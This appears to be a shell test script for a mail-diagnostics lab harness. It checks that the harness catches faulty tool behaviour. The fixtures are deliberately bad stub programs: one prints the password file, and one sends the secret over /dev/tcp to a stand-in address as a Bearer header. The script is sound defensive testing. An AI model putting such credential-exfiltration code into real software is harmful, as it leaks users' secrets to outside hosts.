#!/bin/sh
# SPDX-License-Identifier: MIT
# Does the practice host notice what it is there to notice?  Each case breaks one
# promise on purpose; the run must fail and say why.
set -u
folder=$(mktemp -d) || exit 99
trap 'rm -rf "$folder"' EXIT
passed=0
failed=0

# A program that hands the password on, and one that says nothing.
cat >"$folder/leaky" <<'END'
#!/bin/sh
for argument; do
	case $argument in --password-file=*) cat "${argument#*=}" ;; esac
done
END
printf '#!/bin/sh\nexit 0\n' >"$folder/mute"
# One that takes its password to a web server; addresses may have been moved.
cat >"$folder/talkative" <<'END'
#!/bin/bash
for argument; do
	case $argument in --password-file=*) secret=$(cat "${argument#*=}") ;; esac
done
exec 3<>/dev/tcp/203.0.113.30/80 || exec 3<>/dev/tcp/127.0.113.30/80
printf 'GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n' "$secret" >&3
cat <&3 >/dev/null
END
# One that keeps all it can get.
cat >"$folder/greedy" <<'END'
#!/bin/sh
head -c 250000000 /dev/zero | tail -c 249999999 >/dev/null
END
chmod +x "$folder/greedy" "$folder/leaky" "$folder/mute" "$folder/talkative"

# complains NAME PROGRAM PHRASE: the scenario written last fails with PHRASE.
complains() {
	if said=$(./mailguide-lab run --program="$2" "$folder/scenario.json" 2>&1); then
		printf 'FAIL: %s passed\n%s\n' "$1" "$said"
		failed=$((failed + 1))
	elif ! printf '%s\n' "$said" | grep -qF -- "$3"; then
		printf 'FAIL: %s does not say "%s"\n%s\n' "$1" "$3" "$said"
		failed=$((failed + 1))
	else
		passed=$((passed + 1))
	fi
}

# scenario ARGS USER PORT EXPECT: writes one.
scenario() {
	printf '{ "title": "t", "story": "s", "address": "alice@example.org",
		"user": "%s", "secret": "correct-horse-battery", "args": [%s],
		"hosts": { "imap.example.org": { "addresses": ["203.0.113.20"],
			"ports": { %s } } }, "expect": { %s } }\n' "$2" "$1" "$3" "$4" \
		>"$folder/scenario.json"
}

imap='"--protocols=imap", "--imap=imap.example.org:993"'
scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
said=$(./mailguide-lab run --program=./mailguide "$folder/scenario.json" 2>&1) || {
	printf 'FAIL: nothing is wrong, and yet\n%s\n' "$said"
	exit 1
}
case $said in *'1 skipped') exit 77 ;; esac

scenario "$imap" alice@example.org '"993": {}' '"root_cause": "tls.cert-expired"'
complains wrong-cause ./mailguide 'root cause is null, expected tls.cert-expired'
scenario "$imap" bob@example.org '"993": {}' \
	'"root_cause": "auth.credentials-rejected", "quote": "no such words"'
complains missing-quote ./mailguide 'does not quote "no such words"'
scenario "$imap" alice@example.org '"993": {}' \
	'"root_cause": null, "services": { "imap.example.org:993/imap/tls": "failed" }'
complains wrong-state ./mailguide 'is "works", expected "failed"'
scenario "$imap" alice@example.org '"993": {}' '"root_cause": null, "no_login": true'
complains unwanted-login ./mailguide '1 login attempts at imap, expected 0'
scenario "$imap, \"--try-usernames\"" bob@example.org '"993": {}' \
	'"root_cause": "auth.credentials-rejected"'
complains two-logins ./mailguide '2 login attempts at imap, at most one is allowed'
scenario '"--protocols=imap", "--imap=imap.example.org:143,plain",
	"--insecure-login=imap.example.org"' alice@example.org \
	'"143": { "capabilities": ["IMAP4rev1", "AUTH=PLAIN"] }' '"root_cause": null'
complains clear-secret ./mailguide 'the secret went to imap.example.org:143 in clear text'
scenario "$imap, \"--insecure-login=imap.example.org\"" alice@example.org \
	'"993": { "certificate": "self-signed" }' '"root_cause": null'
complains untrusted-secret ./mailguide 'imap.example.org:993, which is not to be trusted'
scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
complains leaky-output "$folder/leaky" 'the secret stands in standard output'
scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
complains no-answer "$folder/mute" 'standard output is no JSON'
scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
complains greedy "$folder/greedy" 'MiB of memory'
scenario "$imap" alice@example.org '"993": { "sofware": "gmail" }' '"root_cause": null'
complains misspelt-key ./mailguide "hosts.imap.example.org.ports.993: unknown key 'sofware'"

# web EXPECT: a scenario with a web server beside the mail server.
web() {
	printf '{ "title": "t", "story": "s", "address": "alice@example.org",
		"secret": "correct-horse-battery", "args": ["--protocols=imap"],
		"hosts": { "imap.example.org": { "addresses": ["203.0.113.20"],
				"ports": { "993": {} } },
			"autoconfig.example.org": { "addresses": ["203.0.113.30"],
				"ports": { "80": {}, "443": { "paths": { "/mail/config-v1.1.xml": {
				"body": "%s" } } } } } },
		"expect": { "root_cause": null, %s } }\n' "$autoconfig" "$1" >"$folder/scenario.json"
}
# lookup EXPECT: the same, looked up.
lookup() {
	web "$1"
	sed -i -e 's/"secret": "[^"]*",/"command": "lookup",/' -e 's/"args": [^]]*\],//' \
		"$folder/scenario.json"
}
autoconfig="<clientConfig><incomingServer type='imap'><hostname>imap.example.org</hostname>\
<port>993</port></incomingServer></clientConfig>"
asked=https://autoconfig.example.org/mail/config-v1.1.xml
web "\"sources\": { \"autoconfig\": \"found: $asked\", \"ispdb\": \"nxdomain\" },
	\"asked\": [\"autoconfig.example.org\", \"GET $asked*\", \"!imap.example.org\",
	\"!https://autoconfig.example.org/\"], \"discrepancies\": [\"!no-such\"]"
said=$(./mailguide-lab run --program=./mailguide "$folder/scenario.json" 2>&1) || {
	printf 'FAIL: nothing is wrong with the web, and yet\n%s\n' "$said"
	failed=$((failed + 1))
}
web '"sources": { "autoconfig": "timeout" }'
complains wrong-outcome ./mailguide 'expected "timeout"'
web '"sources": { "autoconfig": "found: no such words" }'
complains wrong-detail ./mailguide 'expected "found: no such words"'
web '"sources": { "astrology": "found" }'
complains missing-source ./mailguide 'no source astrology in the answer'
web '"discrepancies": ["no-such"]'
complains missing-discrepancy ./mailguide 'discrepancy no-such is not told'
web '"asked": ["https://autoconfig.example.org/elsewhere"]'
complains not-asked ./mailguide 'autoconfig.example.org/elsewhere was not asked'
web '"asked": ["!autoconfig.example.org"]'
complains asked-anyway ./mailguide 'autoconfig.example.org must not be asked'
web '"asked": ["dns:no-such-name"]'
complains not-resolved ./mailguide 'dns:no-such-name was not asked'
web '"asked": ["!dns:autoconfig.thunderbird.net"]'
complains resolved-anyway ./mailguide 'dns:autoconfig.thunderbird.net must not be asked'
published=$autoconfig
autoconfig=$(printf '%s' "$autoconfig" | sed 's/imap\.ex/%EMAILLOCALPART%.ex/')
web '"no_address": true'
complains address-in-dns ./mailguide 'DNS learned the address'
autoconfig=$published
web '"no_address": true'
complains told-address ./mailguide 'autoconfig.example.org:443 learned the address'
lookup "\"services\": { \"imap.example.org:993/imap/tls\": \"srv\" }"
complains wrong-winner ./mailguide 'is "autoconfig", expected "srv"'
lookup "\"clients\": { \"Thunderbird\": \"ispdb\" }"
complains wrong-client ./mailguide 'Thunderbird takes "guess", expected "ispdb"'
web '"exit": 0'
complains web-secret "$folder/talkative" 'the secret went to autoconfig.example.org:80 in clear'
complains web-header "$folder/talkative" "has the header 'authorization:'"

echo "$passed passed, $failed failed, 0 skipped"
[ $failed = 0 ]
